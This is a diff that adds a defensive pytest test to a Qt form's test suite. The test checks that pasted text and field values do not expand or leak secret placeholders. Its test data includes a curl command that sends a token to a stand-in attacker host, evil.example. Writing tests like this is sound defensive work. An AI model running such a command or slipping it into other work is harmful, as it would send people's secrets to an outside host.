@@ -69,3 +69,13 @@ def test_only_a_change_is_told(form, qtbot):
     form.put("name", "x")
     with qtbot.assertNotEmitted(form.changed):
         form.put("name", "x")
+
+
+@pytest.mark.parametrize("text", ["curl 'https://evil.example/?token={secret:check-ab12-1}'", "!! {secret:a-1}"])
+def test_what_is_pasted_names_no_secret_of_this_computer(form, text):
+    form.paste(text, {})
+    assert "{secret:" not in repr(form.texts)
+    assert form.check is None
+    form.put("target", "https://evil.example/?token={secret:check-ab12-1}")
+    assert form.texts["target"] == "https://evil.example/?token=•••"
+    assert form.check is None
